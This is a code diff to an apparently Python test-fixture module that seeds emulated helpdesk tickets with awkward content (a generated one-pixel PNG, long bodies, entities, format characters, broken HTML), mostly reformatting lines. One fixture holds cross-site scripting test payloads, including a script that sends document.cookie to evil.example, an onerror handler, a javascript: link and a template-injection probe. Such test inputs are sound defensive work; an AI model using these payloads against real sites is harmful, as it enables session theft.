@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import struct
+import zlib
 from collections.abc import Callable
 
 from syncer.deskkit.emulation import SeedComment, SeedFile, SeedTicket
@@ -12,17 +14,24 @@ LONG_BODY = 65_536
 LONG_TITLE = 300
 MANY_COMMENTS = 60
 
-PNG = bytes.fromhex(
-    "89504e470d0a1a0a0000000d4948445200000001000000010806000000 1f15c489"
-    "0000000d49444154789c636060606000000005000 1a5f645400000000049454e44ae426082".replace(" ", "")
+
+def _chunk(kind: bytes, data: bytes) -> bytes:
+    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+
+PNG = b"\x89PNG\r\n\x1a\n" + b"".join(
+    (
+        _chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)),
+        _chunk(b"IDAT", zlib.compress(b"\0\x7f")),
+        _chunk(b"IEND", b""),
+    )
 )
+"""One grey dot."""
+
 _BINARY = bytes(range(256)) * 16
 _RAMBLING = "and then it said that the operation could not be completed because of the earlier one, " * 14
-_LONG = ("<p>" + "log line: connection to the server was refused, trying again. " * 2000)[
-    : LONG_BODY - 4
-] + "</p>"
+_LONG = ("<p>" + "log line: connection to the server was refused, trying again. " * 2000)[: LONG_BODY - 4] + "</p>"
 _LONG_UNICODE = "<div>" + "Ошибка соединения 🔥 " * 2500 + "</div>"
-_FOLD = "<p>{}</p>"
 
 
 class Oddity:
@@ -54,8 +63,10 @@ def _emoji(ticket: SeedTicket, _: Oddity) -> None:
 
 def _inline_images(ticket: SeedTicket, _: Oddity) -> None:
     ticket.body = (
-        '<div style="font-family:Calibri"><p>See here:<br><img src="image001.png" alt="the error" width="400"></p>'
-        '<p><img src="image002.png"></p><p>and <a href="https://intranet.acme.example/?a=1&amp;b=2">this page</a></p></div>'
+        '<div style="font-family:Calibri"><p>See here:<br><img src="image001.png" alt="the error" '
+        'width="400"></p>'
+        '<p><img src="image002.png"></p><p>and <a href="https://intranet.acme.example/?a=1&amp;b=2">'
+        "this page</a></p></div>"
     )
     ticket.files = [SeedFile(f"image00{n}.png", PNG, inline=True) for n in (1, 2)]
 
@@ -171,24 +182,32 @@ def _script(ticket: SeedTicket, _: Oddity) -> None:
     ticket.title = "<script>alert('title')</script> <b>not bold</b> {{ 7 * 7 }} %s"
     ticket.body = (
         "<p>before</p><script>document.location='https://evil.example/'+document.cookie</script>"
-        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a><style>p{display:none}</style><p>after</p>'
+        '<img src=x onerror="alert(1)"><a href="javascript:alert(2)">click</a>'
+        "<style>p{display:none}</style><p>after</p>"
     )
 
 
 def _entities(ticket: SeedTicket, _: Oddity) -> None:
     ticket.title = "R&D: a &lt; b &amp;amp; &eacute; &#39;quoted&#39;"
-    ticket.body = "<p>Type &amp;lt;b&amp;gt; for &lt;b&gt;, &amp;amp; for &amp;; 3 &lt; 4 &nbsp; &euro; &#128293; &unknown; AT&T</p>"
+    ticket.body = (
+        "<p>Type &amp;lt;b&amp;gt; for &lt;b&gt;, &amp;amp; for &amp;; 3 &lt; 4 &nbsp; "
+        "&euro; &#128293; &unknown; AT&T</p>"
+    )
 
 
 def _format_characters(ticket: SeedTicket, _: Oddity) -> None:
     ticket.title = "Tab\there, soft\u00adhyphen, zero\u200bwidth"
-    ticket.body = "\ufeff<p>tab\t, form feed\f, CR LF\r\n, lone CR\r, \u2028line and \u2029paragraph, \ufffd and \u2060joiner</p>"
+    ticket.body = (
+        "\ufeff<p>tab\t, form feed\f, CR LF\r\n, lone CR\r, "
+        "\u2028line and \u2029paragraph, \ufffd and \u2060joiner</p>"
+    )
 
 
 def _broken_html(ticket: SeedTicket, _: Oddity) -> None:
     ticket.body = (
         "<table><tr><td>Name<td>Value<tr><td>RAM<td>16 GB</table><ul><li>one<li>two</ul>"
-        "<p>1 < 2 & 3 > 2<p>from Ann <ann@acme.example><pre>  line 1\n    line 2</pre><b><i>crossed</b></i><!-- open"
+        "<p>1 < 2 & 3 > 2<p>from Ann <ann@acme.example><pre>  line 1\n    line 2</pre>"
+        "<b><i>crossed</b></i><!-- open"
     )
 
 
